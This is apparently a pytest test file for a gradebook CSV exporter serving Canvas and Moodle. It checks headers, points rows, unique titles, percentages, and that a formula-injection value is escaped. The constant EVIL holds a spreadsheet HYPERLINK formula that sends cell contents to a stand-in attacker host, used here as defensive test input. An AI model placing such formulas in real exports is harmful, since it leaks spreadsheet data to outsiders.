"""Gradebooks as Canvas and Moodle import them."""

from __future__ import annotations

import csv
import io
import re

import pytest

from app.exchange.gradebook_csv import PointsColumn, canvas_csv, moodle_csv, unique_titles
from app.store import Student

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'


def student(number: int, name: str, key: str | None = None) -> Student:
    return Student(number, 1, name, key, None)


def test_canvas_finds_its_columns_and_its_row_of_points() -> None:
    text = canvas_csv([student(1, "Kim Lee", "s17"), student(2, EVIL)], [PointsColumn("Week 3", 14, {1: 12.5})])
    header, points, kim, evil = csv.reader(io.StringIO(text))
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 3"]
    assert (points[0].strip(), points[-1]) == ("Points Possible", "14")
    assert kim == ["Kim Lee", "", "s17", "s17", "", "12.5"]
    assert evil == [f"'{EVIL}", "", "", "", "", ""]
    assert not text.startswith("\ufeff")  # Canvas would take it for a part of the first title


@pytest.mark.parametrize("title", ["Final Grade quiz", "Current Score", "Override Status", "Week (3)", "Week (12) "])
def test_no_title_is_taken_for_one_of_canvas_own(title: str) -> None:
    header = next(csv.reader(io.StringIO(canvas_csv([], [PointsColumn(title, 1, {}), PointsColumn(title, 1, {})]))))[5:]
    assert len(set(header)) == 2
    for name in header:
        assert not re.search("Current Score|Final Grade|Override Status", name)
        assert not re.search(r"\(\d+\)$", name.strip())


def test_titles_that_are_equal_get_numbers_that_no_other_title_has() -> None:
    titles = ["A", "A", "A [2]", "B", "A [2]", "A"]
    unique = list(unique_titles(titles))
    assert len(set(unique)) == len(titles)
    assert [unique[number] for number in (0, 2, 3)] == ["A", "A [2]", "B"]


def test_moodle_gets_per_cent_of_those_it_can_find() -> None:
    text = moodle_csv(
        [student(1, "Kim", "17"), student(2, "Lou"), student(3, "Max", "18")], [PointsColumn("Week", 14, {1: 7})]
    )
    assert list(csv.reader(io.StringIO(text))) == [
        ["ID number", "Full name", "Week (%)"],
        ["17", "Kim", "50"],
        ["18", "Max", ""],
    ]
    mails = moodle_csv([student(1, "Kim", "kim@example.org")], [])
    assert mails.startswith("Email address,")
